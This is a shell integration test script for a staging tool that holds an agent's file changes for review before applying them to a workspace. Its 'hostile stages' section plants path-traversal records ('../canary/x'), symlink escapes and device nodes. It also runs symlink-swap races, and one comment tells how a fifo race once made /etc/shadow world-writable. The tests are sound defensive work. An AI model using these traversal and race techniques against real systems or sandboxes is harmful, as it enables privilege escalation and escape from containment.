#!/bin/sh
# Integration tests for the stage lifecycle, continued (test-lifecycle.sh has
# review, diff and apply): hostile stages, checkpoint, restore and fork, the
# fallback without openat2, usage errors, the changeset ID, review warnings,
# and the cases found since.  TAP.  Set-up and helpers: lifecycle-lib.sh.
# Needs $PVISOR, $PVAGENT, $SRCDIR.  Debugging: PVISOR_TEST_KEEP=DIR.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/lifecycle-lib.sh"
# ---------------------------------------------------------------------------
# 7. hostile stages

CANARY=$T/canary
mkdir -p "$CANARY"
canary_clean() { [ -z "$(ls -A "$CANARY")" ]; }

# 7a. a symlinked parent in the workspace (created after the run)
W=$T/ws8 S=$T/st8
mkdir -p "$W/sub"
stage_run "$W" "$S" 'echo pwn > sub/pwn'
rm -r "$W/sub"; ln -s "$CANARY" "$W/sub"
"$P" apply --stage "$S" >/dev/null 2>"$T/h1.err"; rc=$?
eq "$rc" 1 "apply through a symlinked parent dir is refused"
check "nothing written through the symlinked parent" canary_clean

# 7b. an upper entry that is a symlink to /etc, and one to the canary
W=$T/ws9 S=$T/st9
mkdir -p "$W"
stage_run "$W" "$S" "ln -s /etc etc && ln -s '$CANARY' can"
eq "$(review_json "$S" | jq -r '[.changeset.warnings[] | select(.warning=="symlink_outside")] | length')" 2 \
   "review warns about symlinks pointing outside"
"$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
eq "$rc $(readlink "$W/etc") $(readlink "$W/can")" "0 /etc $CANARY" "symlinks are applied as symlinks"
check "nothing written into the symlink targets" canary_clean

# 7b'. a linked worktree's metadata deleted (git worktree prune or gc in a
# sandbox, where a worktree outside the workspace looks missing): one
# warning on its .git/worktrees/NAME, none for other deletions in .git;
# the review's text says what it means
W=$T/ws9w S=$T/st9w
mkdir -p "$W/.git/worktrees/feat/logs" "$W/.git/refs/old" "$W/sub/.git/worktrees/wt2"
echo ref > "$W/.git/worktrees/feat/HEAD"; echo /elsewhere/feat/.git > "$W/.git/worktrees/feat/gitdir"
echo x > "$W/.git/refs/old/x"; echo y > "$W/sub/.git/worktrees/wt2/gitdir"
stage_run "$W" "$S" "rm -rf .git/worktrees .git/refs/old sub/.git/worktrees/wt2"
eq "$(review_json "$S" | jq -r '[.changeset.warnings[] | select(.warning=="git_worktree") | .path] | join(" ")')" \
   ".git/worktrees/feat sub/.git/worktrees/wt2" "review warns when a linked worktree's metadata is deleted"
check "the review's text explains the warning" sh -c "'$P' status --review '$S' | grep -q '! .git/worktrees/feat: .*breaks that worktree (git_worktree)'"
"$P" drop --stage "$S" >/dev/null 2>&1

# 7c. crafted stage: a directory in upper over a workspace symlink, a
# journal record with '..', a device node
W=$T/ws10 S=$T/st10
mkdir -p "$W"; echo k > "$W/k"
stage_run "$W" "$S" 'echo k2 > k'
ln -s "$CANARY" "$W/esc"
mkdir "$S/upper/esc"; echo x > "$S/upper/esc/inside"
"$P" apply --stage "$S" >/dev/null 2>"$T/h3.err"; rc=$?
eq "$rc" 1 "a stage directory over a workspace symlink is a conflict"
check "nothing written into the symlink target" canary_clean
rm -r "$S/upper/esc"
mknod "$S/upper/null" c 1 3 2>/dev/null && {
    "$P" apply --stage "$S" >/dev/null 2>"$T/h4.err"; rc=$?
    eq "$rc" 0 "a stage with a device node applies the rest"
    check "the device node is not created" test ! -e "$W/null"
    check "apply says it skipped it" grep -q 'skipped 1 device' "$T/h4.err"
}
# a workspace directory the stage replaces by a socket (a daemon's socket
# where the agent removed a directory): apply creates no socket, and keeps
# the directory whole, as it keeps a file a socket replaces, instead of
# deleting what it held and leaving it empty
W=$T/ws10s S=$T/st10s
mkdir -p "$W/d/sub" "$W/d-x"
echo x > "$W/d/x"; echo y > "$W/d/sub/y"; echo f > "$W/f"; echo q > "$W/d-x/q"
stage_run "$W" "$S" "rm -r d d-x f && python3 -c 'import socket
for n in (\"d\", \"f\"): socket.socket(socket.AF_UNIX).bind(n)'" >/dev/null 2>&1
if [ -S "$S/upper/d" ] && [ -S "$S/upper/f" ]; then
    # diff names a socket's type in its mode, as it does a fifo's
    eq "$("$P" diff --stage "$S" -- f | grep -c '^new file mode 140[0-7][0-7][0-7]$')" 1 \
        "diff gives a socket's mode with its type (140xxx)"
    "$P" apply --stage "$S" >/dev/null 2>"$T/h4s.err"; rc=$?
    eq "$rc" 0 "a stage with a directory replaced by a socket applies the rest"
    eq "$(cat "$W/d/x" "$W/d/sub/y" "$W/f" 2>&1)" "x
y
f" "the directory a socket replaced keeps what it held, as a file a socket replaced stays"
    check "the deleted sibling directory is deleted" test ! -e "$W/d-x"
    check "apply says it skipped both sockets" grep -q 'skipped 2 device' "$T/h4s.err"
else
    skip "a directory replaced by a socket" "no socket in the stage (python3?)"
fi
W=$T/ws11 S=$T/st11
mkdir -p "$W"; echo k > "$W/k"
stage_run "$W" "$S" 'echo k2 > k'
printf '{"path":"../canary/x","type":"reg","mode":420,"size":1,"sha256":"%064d","ino":1,"op":"open"}\n' 0 >> "$S/journal"
"$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
eq "$rc" 1 "a journal path with '..' makes apply refuse"
check "nothing written outside" canary_clean
# a crafted apply intent with '..'
sed -i '$d' "$S/journal"
printf '{"format":1,"apply_id":"0123456789abcdef","subset":false,"entries":[{"path":"../canary/x","old":null,"new":{"type":"reg","mode":420,"atime":[0,0],"mtime":[0,0]}}]}' > "$S/apply-intent"
"$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
eq "$rc" 1 "an apply intent with '..' makes apply refuse"
check "nothing written outside" canary_clean
eq "$(cat "$W/k")" k "and nothing written inside"

# 7d. a racing helper swaps a workspace directory for a symlink during apply
W=$T/ws12 S=$T/st12
mkdir -p "$W/w"
i=0; while [ $i -lt 60 ]; do echo "$i" > "$W/w/f$i"; i=$((i+1)); done
stage_run "$W" "$S" 'for f in w/*; do echo new >> $f; done; for i in 1 2 3 4 5 6 7 8 9; do echo $i > w/n$i; done'
(
    end=$(( $(date +%s) + 4 ))
    while [ "$(date +%s)" -lt $end ] && [ ! -e "$T/stop-race" ]; do
        mv "$W/w" "$W/w.real" 2>/dev/null && ln -s "$CANARY" "$W/w" 2>/dev/null
        rm -f "$W/w"; mv "$W/w.real" "$W/w" 2>/dev/null
    done
) &
racer=$!
PVISOR_TEST_APPLY_DELAY_US=2000 "$P" apply --stage "$S" >/dev/null 2>&1
touch "$T/stop-race"; wait $racer
[ -L "$W/w" ] && rm -f "$W/w"; [ -d "$W/w.real" ] && mv "$W/w.real" "$W/w"
check "a directory swapped for a symlink during apply: nothing written outside" canary_clean
"$P" apply --stage "$S" >/dev/null 2>&1 || true
check "after the race, still nothing outside" canary_clean

# 7d'. root applies into a directory another user may write (their own
# workspace): a fifo's temp name there was chmod'ed by name after mknod,
# and fchmodat() follows a symlink the user put at that name meanwhile:
# the fifo's mode went to any file of theirs choosing (/etc/shadow made
# 0666).  Now its owner, mode and times are set through a descriptor of
# the fifo itself; a name replaced meanwhile stops apply.  (strace widens
# the window between mknod and what follows: the race is won without it
# too, within a few applies of 50 fifos.)
if [ "$(id -u)" -eq 0 ] && command -v strace >/dev/null && command -v setpriv >/dev/null; then
    W=$T/ws12f S=$T/st12f
    mkdir -p "$W"
    stage_run "$W" "$S" 'mkfifo -m 0666 pipe' >/dev/null 2>&1
    chown -R 65534:65534 "$W"
    echo secret > "$T/fifo-victim"; chmod 600 "$T/fifo-victim"
    setpriv --reuid=65534 --regid=65534 --clear-groups sh -c '
        cd "$1" || exit 1; i=0
        while [ $i -lt 500 ]; do
            for f in .pvisor-apply-*; do
                [ -p "$f" ] && ln -s "$2" .swap && mv -T .swap "$f" && exit 0
            done
            sleep 0.01; i=$((i + 1))
        done' sh "$W" "$T/fifo-victim" &
    swapper=$!
    (cd "$W" && no_lsan strace -f -o /dev/null -e inject=mknodat:delay_exit=1000000 "$P" apply --stage "$S") >/dev/null 2>&1
    wait $swapper; swapped=$?
    eq "$swapped $(stat -c %a "$T/fifo-victim")" "0 600" \
        "a fifo's temp name replaced by a symlink during apply: the file it points to keeps its mode"
    rm -f "$W/pipe"
    "$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
    eq "$rc $(stat -c %F:%a "$W/pipe" 2>&1)" "0 fifo:666" "the next apply completes (the fifo, its mode)"
else
    skip "a fifo's temp name replaced by a symlink during apply" "needs root, strace and setpriv"
fi

# 7d''. an editor that saves by rename (writes a new file, renames it over
# the old one) while apply writes that very file: between apply's re-check
# of the file (through a descriptor it holds on it) and its rename over the
# path, the editor's version took the path; apply replaced it and reported
# success, and the user's save was lost.  Now apply exchanges its new
# version with what is at the path (RENAME_EXCHANGE) and checks that what
# came out is the object it checked, not written in place meanwhile
# either; else it exchanges them back and stops (the next apply names the
# conflict).  strace holds apply at its renames; the editor saves once
# apply's temp file has its name (a small apply's O_TMPFILE is named just
# before its rename; a named temp file exists from its write on, before
# the re-check, so the editor waits a little there).
if command -v strace >/dev/null; then
    for variant in tmpfile named inplace; do
        W=$T/ws12g-$variant S=$T/st12g-$variant
        mkdir -p "$W"; echo old > "$W/f"
        stage_run "$W" "$S" 'echo agent > f' >/dev/null 2>&1
        pause=0 named= save='echo mine > .f.swp && mv .f.swp f'
        [ $variant = named ] && pause=0.6 named=1
        [ $variant = inplace ] && save='echo mine > f'
        (cd "$W" && i=0
         while [ $i -lt 600 ]; do
             for t in .pvisor-apply-*; do
                 [ -e "$t" ] && { sleep $pause; eval "$save"; exit 0; }
             done
             sleep 0.01; i=$((i + 1))
         done; exit 1) &
        editor=$!
        (cd "$W" && PVISOR_TEST_APPLY_NAMED_TEMPS=$named no_lsan strace -f -o /dev/null \
            -e inject=renameat,renameat2:delay_enter=1500000 "$P" apply --stage "$S") >/dev/null 2>"$T/editor.err"
        rc=$?
        wait $editor; saved=$?
        eq "$saved $rc $(cat "$W/f") $(grep -c 'stopped: a file in the workspace changed' "$T/editor.err")" "0 1 mine 1" \
            "an editor's save ($variant) while apply renames over that file: kept, apply stops"
        "$P" apply --stage "$S" >"$T/editor2.out" 2>&1; rc=$?
        eq "$rc $(cat "$W/f") $(grep -c "^ *f: changed in the workspace since the interrupted apply" "$T/editor2.out") $(ls -A "$W" | tr '\n' ' ')" \
            "1 mine 1 f " "... and the next apply names it as a conflict, no temp file left"
    done
    # killed between an exchange and the unlink of what came out: the old
    # file is at the temp name, the path new; the resume completes it
    W=$T/ws12g-kill S=$T/st12g-kill
    mkdir -p "$W"; echo old > "$W/f"
    stage_run "$W" "$S" 'echo agent > f' >/dev/null 2>&1
    (cd "$W" && export ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0" && exec strace -f -o /dev/null -e inject=unlinkat:delay_enter=1000000 \
        sh -c 'echo $$ > "$1"; exec "$2" apply --stage "$3"' sh "$T/ex.pid" "$P" "$S") >/dev/null 2>&1 &
    tracer=$!
    i=0; while [ "$(cat "$W/f")" != agent ] && [ $i -lt 1000 ]; do sleep 0.01; i=$((i + 1)); done
    kill -9 "$(cat "$T/ex.pid")"; wait $tracer 2>/dev/null
    mid="$(cat "$W/f") $(cat "$W"/.pvisor-apply-* 2>&1)"
    "$P" apply --stage "$S" >/dev/null 2>"$T/ex.err"; rc=$?
    eq "$mid:$rc:$(cat "$W/f"):$(ls -A "$W" | tr '\n' ' ')" "agent old:0:agent:f " \
        "killed between the exchange and the unlink: the path new, the old file at the temp name; the resume completes"
    # two saves by rename in the window: the first before apply's
    # exchange (which brings it out), the second before the exchange back
    # (which then brought that newer save out to the temp name, the first
    # back to the path): apply unlinked the temp name, the user's latest
    # save was lost and the path held the older one
    W=$T/ws12g-twice S=$T/st12g-twice
    mkdir -p "$W"; echo old > "$W/f"
    stage_run "$W" "$S" 'echo agent > f' >/dev/null 2>&1
    (cd "$W" && wait_apply_temp
     echo mine1 > .f.swp && mv .f.swp f
     i=0; while [ "$(cat f)" != agent ] && [ $i -lt 600 ]; do sleep 0.005; i=$((i + 1)); done
     echo mine2 > .f.swp && mv .f.swp f) &
    editor=$!
    (cd "$W" && no_lsan strace -f -o /dev/null -e inject=renameat2:delay_enter=1500000 "$P" apply --stage "$S") \
        >/dev/null 2>&1; rc=$?
    wait $editor
    eq "$rc $(cat "$W/f") $(ls -A "$W" | tr '\n' ' ')" "1 mine2 f " \
        "two saves by rename around apply's exchange and its undoing: the latest save kept, apply stops"
    # killed between an exchange that brought out the user's save and the
    # exchange back: the save was at the temp name, ours at the path, and
    # the resume removed the save with the temp files and said "Applied";
    # it goes back to the path (the resume names the conflict, a drop
    # --force keeps it)
    for after in apply drop; do
        W=$T/ws12g-kx-$after S=$T/st12g-kx-$after
        mkdir -p "$W"; echo old > "$W/f"
        stage_run "$W" "$S" 'echo agent > f' >/dev/null 2>&1
        (cd "$W" && wait_apply_temp
         echo mine > .f.swp && mv .f.swp f) &
        editor=$!
        (cd "$W" && export ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0" && exec strace -f -o /dev/null -e inject=renameat2:delay_enter=1500000 \
            sh -c 'echo $$ > "$1"; exec "$2" apply --stage "$3"' sh "$T/kx.pid" "$P" "$S") >/dev/null 2>&1 &
        tracer=$!
        wait $editor
        i=0; while [ "$(cat "$W/f")" != agent ] && [ $i -lt 600 ]; do sleep 0.005; i=$((i + 1)); done
        kill -9 "$(cat "$T/kx.pid")"; wait $tracer 2>/dev/null
        mid="$(cat "$W/f") $(cat "$W"/.pvisor-apply-* 2>&1)"
        if [ $after = apply ]; then
            "$P" apply --stage "$S" >"$T/kx.out" 2>&1; rc=$?
            n=$(grep -c "^ *f: changed in the workspace since the interrupted apply" "$T/kx.out")
        else
            "$P" drop --force --stage "$S" >"$T/kx.out" 2>&1; rc=$?; n=1
        fi
        eq "$mid:$rc:$(cat "$W/f"):$n:$(ls -A "$W" | tr '\n' ' ')" \
            "agent mine:$([ $after = apply ] && echo 1 || echo 0):mine:1:f " \
            "killed between an exchange that brought out the user's save and the exchange back: $after keeps the save"
    done
    # a file the agent deleted that the user saves (by rename) while apply
    # runs: between apply's re-check of it and its unlink (the first
    # deletion's check came before the syncfs that makes the intent
    # durable, a window of any length) the save was deleted, and apply
    # said "Applied".  Now it is moved aside, checked, and put back when
    # it is not the object checked; killed in between, the resume puts it
    # back.  strace holds apply at that syncfs, then at its renames.
    for variant in syncfs rename kill; do
        W=$T/ws12h-$variant S=$T/st12h-$variant
        mkdir -p "$W"; echo old > "$W/f"; echo x > "$W/g"
        stage_run "$W" "$S" 'rm f; echo y > g' >/dev/null 2>&1
        inject=renameat2:delay_enter=1500000
        [ $variant = syncfs ] && inject=syncfs:delay_enter=1500000:when=1
        # (the previous variant's log would satisfy the wait below at once,
        # and the save would come before apply looked at f)
        rm -f "$T/del.strace" "$T/del.pid"
        (cd "$W" && export ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0" && exec strace -f -o "$T/del.strace" -e trace=syncfs,renameat2 -e inject=$inject \
            sh -c 'echo $$ > "$1"; exec "$2" apply --stage "$3"' sh "$T/del.pid" "$P" "$S") >/dev/null 2>&1 &
        tracer=$!
        i=0; while ! grep -q "${inject%%:*}(" "$T/del.strace" 2>/dev/null && [ $i -lt 600 ]; do sleep 0.01; i=$((i + 1)); done
        sleep 0.3; (cd "$W" && echo mine > .f.swp && mv .f.swp f)
        if [ $variant = kill ]; then
            i=0; while [ -e "$W/f" ] && [ $i -lt 2000 ]; do sleep 0.005; i=$((i + 1)); done
            kill -9 "$(cat "$T/del.pid")"
        fi
        wait $tracer; rc=$?
        [ $variant = kill ] && rc=$rc:$(cat "$W"/.pvisor-apply-* 2>&1)
        "$P" apply --stage "$S" >"$T/del2.out" 2>&1; rc2=$?
        eq "$rc $(cat "$W/f" 2>&1) $rc2 $(grep -c '^ *f: changed in the workspace since the interrupted apply' "$T/del2.out") $(ls -A "$W" | tr '\n' ' ')" \
            "$([ $variant = kill ] && echo 137:mine || echo 1) mine 1 1 f g " \
            "a save by rename of a file apply deletes ($variant): kept, the next apply names the conflict"
    done
else
    skip "an editor's save while apply renames over that file" "needs strace"
fi

# 7e. an unprivileged user: the small apply's O_TMPFILE content is linked
# through /proc/self/fd (no CAP_DAC_READ_SEARCH needed), files stay theirs
if [ "$(id -u)" -eq 0 ] && command -v setpriv >/dev/null; then
    U=$T/unpriv; mkdir -p "$U/ws"; chown -R 65534:65534 "$U"
    asu() { setpriv --reuid=65534 --regid=65534 --clear-groups env HOME="$U" XDG_STATE_HOME="$U/state" "$@"; }
    # apply STAGE as uid 65534, paced, killed once its intent exists
    # (setpriv and env exec: $! is apply itself, which the kill must hit)
    # (from the workspace: a fork is applied only there)
    kill_apply_unpriv() {
        (cd "$U/ws" && exec setpriv --reuid=65534 --regid=65534 --clear-groups env HOME="$U" XDG_STATE_HOME="$U/state" \
            PVISOR_TEST_APPLY_DELAY_US=150000 "$P" apply --stage "$1") >/dev/null 2>&1 &
        ap=$!; i=0
        while [ ! -e "$1/apply-intent" ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i + 1)); done
        sleep 0.2; kill -9 $ap; wait $ap 2>/dev/null
    }
    # STAGE: a run that writes six files into the read-only directory ro
    stage_ro() {
        asu "$P" run --stage "$1" --workspace "$U/ws" -- sh -c "cd '$U/ws' && chmod u+w ro && for i in 1 2 3 4 5 6; do echo \$i > ro/n\$i; done && chmod 555 ro" >/dev/null 2>&1
    }
    asu sh -c "cd '$U/ws' && for i in 1 2 3; do echo old \$i > f\$i; done"
    asu "$P" run --stage "$U/st" --workspace "$U/ws" -- sh -c "cd '$U/ws' && echo new > f1 && echo n > g && rm f2" >/dev/null 2>&1
    asu "$P" apply --stage "$U/st" >/dev/null 2>"$T/unpriv.err"; rc=$?
    check "as uid 65534: a small apply writes, creates and deletes, the files stay the user's" \
        sh -c "[ $rc -eq 0 ] && [ \"\$(cat '$U/ws/f1') \$(cat '$U/ws/g') \$(stat -c %u '$U/ws/f1')\" = 'new n 65534' ] && [ ! -e '$U/ws/f2' ] && \
               ! find '$U/ws' -name '.pvisor-apply-*' | grep -q ."
    # a directory the agent made unreadable: status and apply read it in a
    # user namespace of their own (DAC override over the user's own files;
    # they stopped with EACCES), and apply writes the agent's modes; drop
    # removes such a stage
    asu "$P" run --stage "$U/st2" --workspace "$U/ws" -- sh -c "cd '$U/ws' && echo x > f3 && mkdir cache && echo d > cache/x && chmod 000 cache" >/dev/null 2>&1
    cp -a "$U/ws" "$U/ws.before"
    asu "$P" status --review "$U/st2" --json >"$T/unpriv2.json" 2>"$T/unpriv2.err"; r1=$?
    asu "$P" apply --stage "$U/st2" >/dev/null 2>>"$T/unpriv2.err"; r2=$?
    [ "$r1$r2" = 00 ] || diag "$(cat "$T/unpriv2.err")"
    m=$(stat -c %a "$U/ws/cache" 2>&1); chmod 700 "$U/ws/cache" 2>/dev/null
    eq "$r1:$(grep -c '"path": *"cache/x"' "$T/unpriv2.json"):$r2:$m:$(cat "$U/ws/f3" "$U/ws/cache/x" 2>&1 | tr '\n' ' ')" \
        "0:1:0:0:x d " "as uid 65534, a stage with a mode-000 directory: status lists its content and apply writes it, mode 000 kept"
    rm -rf "$U/ws"; mv "$U/ws.before" "$U/ws"
    asu "$P" run --stage "$U/st4" --workspace "$U/ws" -- sh -c "cd '$U/ws' && echo x > f3 && mkdir cache && echo d > cache/x && chmod 000 cache" >/dev/null 2>&1
    asu "$P" drop --stage "$U/st4" >/dev/null 2>&1
    eq "$?:$(ls -A "$U/st4" | tr '\n' ' ')" "0:dropped lock meta.json version " "... and drop removes such a stage"
    # ... and the summary counts what the first try did as well: the second
    # resumes it, and counted only the rest ("0 deleted, 0 directories
    # created" for a deletion and a new directory the first try had done)
    cp -a "$U/ws" "$U/ws.before"
    asu sh -c "cd '$U/ws' && echo gone > gone"
    asu "$P" run --stage "$U/st12" --workspace "$U/ws" -- sh -c "cd '$U/ws' && rm gone && mkdir nd && echo n > nd/n && echo s > locked && chmod 000 locked" >/dev/null 2>&1
    asu "$P" apply --stage "$U/st12" >"$T/unpriv12.out" 2>&1; rc=$?
    [ $rc -eq 0 ] || diag "$(cat "$T/unpriv12.out")"
    eq "$rc:$(grep -o '[0-9]* written ([0-9]* bytes), [0-9]* deleted, [0-9]* directories created' "$T/unpriv12.out"):$(stat -c %a "$U/ws/locked")" \
        "0:2 written (4 bytes), 1 deleted, 1 directories created:0" \
        "... an apply whose first try stopped at a mode-000 file counts what both tries did"
    rm -rf "$U/ws"; mv "$U/ws.before" "$U/ws"
    # read-only directories of the workspace (a 0555 directory the agent
    # wrote in, a read-only tree it removed): apply makes them writable
    # for its own changes and gives them their modes back, also when it
    # is killed part way and resumed
    asu sh -c "cd '$U/ws' && mkdir ro && echo a > ro/a && chmod 555 ro && mkdir -p tree/sub && echo t > tree/sub/t && chmod -R a-w tree"
    cp -a "$U/ws" "$U/ws.ro"
    asu "$P" run --stage "$U/st5" --workspace "$U/ws" -- sh -c "cd '$U/ws' && chmod u+w ro && echo a2 > ro/a && for i in 1 2 3 4 5 6; do echo \$i > ro/n\$i; done && chmod 555 ro && chmod -R u+w tree && rm -rf tree" >/dev/null 2>&1
    asu "$P" fork --stage "$U/st5" "$U/st6" >/dev/null 2>&1
    asu "$P" apply --stage "$U/st5" >/dev/null 2>&1; rc=$?
    eq "$rc:$(stat -c %a "$U/ws/ro"):$(cat "$U/ws/ro/a" "$U/ws/ro/n6" | tr '\n' ' '):$(test -e "$U/ws/tree" && echo tree)" "0:555:a2 6 :" \
        "as uid 65534: apply writes in a read-only directory and removes a read-only tree; the directory stays 0555"
    rm -rf "$U/ws"; cp -a "$U/ws.ro" "$U/ws"
    kill_apply_unpriv "$U/st6"
    killed=$(grep -c '"unlocked":\[{"path":"ro","mode":365,' "$U/st6/apply-intent" 2>/dev/null)
    (cd "$U/ws" && asu "$P" apply --stage "$U/st6") >/dev/null 2>"$T/ro6.err"; rc=$?
    [ $rc -eq 0 ] || diag "$(cat "$T/ro6.err")"
    eq "$killed:$rc:$(stat -c %a "$U/ws/ro"):$(cat "$U/ws/ro/a" "$U/ws/ro/n6" | tr '\n' ' ')" "1:0:555:a2 6 " \
        "... killed part way (the intent names the directory and its mode), the resumed apply gives it its mode back"
    # ... killed part way, then dropped with --force: the modes come back too
    rm -rf "$U/ws"; cp -a "$U/ws.ro" "$U/ws"
    stage_ro "$U/st7"
    kill_apply_unpriv "$U/st7"
    asu "$P" drop --force --stage "$U/st7" >"$T/drop7.out" 2>&1; rc=$?
    eq "$rc:$(stat -c %a "$U/ws/ro"):$(grep -c 'interrupted apply had written stays' "$T/drop7.out")" "0:555:1" \
        "... killed part way and dropped with --force, the directory gets its mode back (and drop says what stays)"
    # ... only that directory: one the user put at its name meanwhile keeps its mode
    rm -rf "$U/ws"; cp -a "$U/ws.ro" "$U/ws"
    stage_ro "$U/st9"
    kill_apply_unpriv "$U/st9"
    asu sh -c "cd '$U/ws' && mv ro ro.moved && mkdir ro && chmod 775 ro"
    asu "$P" drop --force --stage "$U/st9" >/dev/null 2>&1; rc=$?
    eq "$rc:$(stat -c %a "$U/ws/ro")" "0:775" \
        "... the mode goes back only to the directory apply opened, never to another one now at its name"
    # a read-only directory the agent replaced by a file, another by a
    # symlink: the file keeps the mode the stage gives it, nothing fails
    rm -rf "$U/ws"; cp -a "$U/ws.ro" "$U/ws"
    asu sh -c "cd '$U/ws' && mkdir -p dd && echo hi > dd/f && chmod 02555 dd && mkdir ss && echo x > ss/x && chmod 555 ss"
    asu "$P" run --stage "$U/st8" --workspace "$U/ws" -- sh -c "cd '$U/ws' && chmod u+w dd ss && rm -rf dd ss && echo f > dd && chmod 644 dd && ln -s x ss" >/dev/null 2>&1
    asu "$P" apply --stage "$U/st8" >/dev/null 2>&1; rc=$?
    eq "$rc:$(stat -c %a "$U/ws/dd"):$(readlink "$U/ws/ss")" "0:644:x" \
        "... a read-only directory replaced by a file or a symlink: the file keeps its own mode, the symlink is made"
    # a read-only directory of the user's whose group is not the user's
    # (no capability over it in the override's user namespace, which only
    # maps the user's own ids), and a mode-000 directory of the agent's:
    # the second try in that namespace (uid 0 there) makes it writable as
    # the first did; it took itself for root and stopped at that
    # directory, the workspace half-written, for good
    rm -rf "$U/ws"; cp -a "$U/ws.ro" "$U/ws"
    asu sh -c "cd '$U/ws' && mkdir rg && echo old > rg/f"
    chgrp 100 "$U/ws/rg"
    asu "$P" run --stage "$U/st10" --workspace "$U/ws" -- sh -c "cd '$U/ws' && echo new > rg/f && mkdir locked && echo x > locked/x && chmod 000 locked" >/dev/null 2>&1
    asu chmod 555 "$U/ws/rg"
    asu "$P" apply --stage "$U/st10" >/dev/null 2>"$T/st10.err"; rc=$?
    [ $rc -eq 0 ] || diag "$(cat "$T/st10.err")"
    eq "$rc:$(stat -c %a:%g "$U/ws/rg"):$(cat "$U/ws/rg/f"):$(test -e "$U/st10/apply-intent" && echo intent)" "0:555:100:new:" \
        "... a read-only directory of another group, with a mode-000 directory in the stage: apply writes in it (its second try too)"
    # a workspace file with file capabilities (setcap): its copy-up as an
    # ordinary user failed with EINVAL (the capability's root id is not
    # mapped in the server's user namespace), so every chmod or write of it
    # did; now it is copied without them, as a write natively removes them
    cp /bin/true "$U/ws/capt"; chown 65534:65534 "$U/ws/capt"
    if command -v setcap >/dev/null && setcap cap_net_raw+ep "$U/ws/capt" 2>/dev/null; then
        asu "$P" run --stage "$U/stcap" --workspace "$U/ws" -- sh -c "chmod 700 '$U/ws/capt' && echo more >> '$U/ws/capt'" >/dev/null 2>"$T/cap.err"; r1=$?
        [ $r1 -eq 0 ] || diag "$(cat "$T/cap.err")"
        (cd "$U/ws" && asu "$P" apply --stage "$U/stcap") >/dev/null 2>&1; r2=$?
        eq "$r1:$r2:$(stat -c %a "$U/ws/capt"):$(tail -c 5 "$U/ws/capt")" "0:0:700:more" \
            "as uid 65534: a file with file capabilities can be changed in the stage and applied"
    else
        skip "as uid 65534: a file with file capabilities" "no setcap (libcap2-bin), or no file capabilities here"
    fi
else
    skip "apply as an unprivileged user" "needs root to switch to an unprivileged user"
fi

# 7f. a file system mounted below the workspace: what apply writes there is
# made durable by a syncfs() of that file system too (the workspace's own
# syncfs does not reach it), before the renames and before the marker
if [ "$(id -u)" -eq 0 ] && command -v strace >/dev/null; then
    W=$T/ws7f S=$T/st7f
    mkdir -p "$W/sub"
    if mount -t tmpfs -o size=8m tmpfs "$W/sub"; then
        echo old > "$W/top"; echo old > "$W/sub/inner"; mkdir "$W/sub/gone"; echo g > "$W/sub/gone/g"
        stage_run "$W" "$S" 'echo new > top && echo new > sub/inner && echo n > sub/added && rm -r sub/gone && mkdir sub/nd' >/dev/null 2>&1
        no_lsan strace -f -y -e trace=syncfs -o "$T/sub.strace" "$P" apply --stage "$S" >/dev/null 2>"$T/sub.err"; rc=$?
        check "apply into a file system mounted below the workspace writes there" \
            sh -c "[ $rc -eq 0 ] && [ \"\$(cat '$W/top') \$(cat '$W/sub/inner') \$(cat '$W/sub/added')\" = 'new new n' ] && [ ! -e '$W/sub/gone' ] && [ -d '$W/sub/nd' ]"
        eq "$(grep -c "syncfs([0-9]*<$W/sub" "$T/sub.strace")" 2 \
            "that file system gets its own syncfs, before the renames and after them"
        umount "$W/sub"
    else
        skip "apply into a file system mounted below the workspace" "cannot mount a tmpfs here"
    fi
else
    skip "apply into a file system mounted below the workspace" "needs root and strace"
fi

# 7g. a workspace on a file system without O_TMPFILE (a FUSE file system:
# fuse-overlayfs): the small apply falls back to named temp files, after
# the intent is durable
if [ "$(id -u)" -eq 0 ] && command -v fuse-overlayfs >/dev/null && command -v strace >/dev/null; then
    F=$T/fo; mkdir -p "$F/lower" "$F/upper" "$F/work" "$F/mnt"
    echo old > "$F/lower/a"; echo keep > "$F/lower/k"
    if fuse-overlayfs -o "lowerdir=$F/lower,upperdir=$F/upper,workdir=$F/work" "$F/mnt" 2>/dev/null; then
        stage_run "$F/mnt" "$F/st" 'echo new > a && echo n > b && mkfifo ff && ln -s k l' >/dev/null 2>&1
        no_lsan strace -f -e trace=openat -o "$T/fo.strace" "$P" apply --stage "$F/st" >/dev/null 2>"$T/fo.err"; rc=$?
        check "on a file system without O_TMPFILE apply falls back to named temp files" \
            sh -c "[ $rc -eq 0 ] && grep -q 'O_TMPFILE.*EOPNOTSUPP' '$T/fo.strace' && [ \"\$(cat '$F/mnt/a') \$(cat '$F/mnt/b') \$(readlink '$F/mnt/l')\" = 'new n k' ] && \
                   [ -p '$F/mnt/ff' ] && ! ls -a '$F/mnt' | grep -q pvisor-apply"
        fusermount3 -u "$F/mnt" 2>/dev/null || umount -l "$F/mnt"
    else
        skip "apply on a file system without O_TMPFILE" "fuse-overlayfs cannot mount here"
    fi
else
    skip "apply on a file system without O_TMPFILE" "needs root, fuse-overlayfs and strace"
fi

# ---------------------------------------------------------------------------
# 8. checkpoint, restore, fork

W=$T/ws13 S=$T/st13
mkdir -p "$W/d"; echo a > "$W/a"; echo b > "$W/d/b"
stage_run "$W" "$S" 'echo A >> a && mv d d2 && echo n > n && ln n n2 && mkfifo ff && ln -s a sl'
# an empty listing printed nothing at all
"$P" checkpoint --list --stage "$S" >"$T/cpl.out" 2>"$T/cpl.err"; rc=$?
eq "$rc:$(wc -c < "$T/cpl.out"):$(grep -c "^pvisor checkpoint: the stage $S has no checkpoints (make one with 'pvisor checkpoint" "$T/cpl.err")" \
    "0:0:1" "checkpoint --list of a stage without checkpoints says so on stderr (stdout empty)"
"$P" checkpoint --stage "$S" --name one >/dev/null; rc=$?
eq "$rc" 0 "checkpoint of a sealed stage exits 0"
review_json "$S" | jq -S .changeset > "$T/cs.one"
